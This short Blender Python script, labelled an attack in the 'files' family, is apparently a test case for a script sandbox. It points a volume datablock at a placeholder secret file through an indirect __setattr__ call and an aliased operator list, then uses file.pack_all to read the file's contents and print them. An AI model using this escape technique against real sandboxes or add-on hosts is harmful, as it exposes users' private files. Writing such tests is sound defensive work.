# attack: a volume datablock pointed at a file, then file.pack_all reads it; operators through an unpacked list
# family: files
import bpy

[data, ops] = [bpy.data, bpy.ops]
volume = data.volumes.new("fog")
type(volume).__setattr__(volume, "filepath", "$SECRET_FILE")
print("REACHED", volume.path_resolve("filepath"), ops.file.pack_all.idname())
ops.file.pack_all()
print("ESCAPED", volume.packed_file.data)
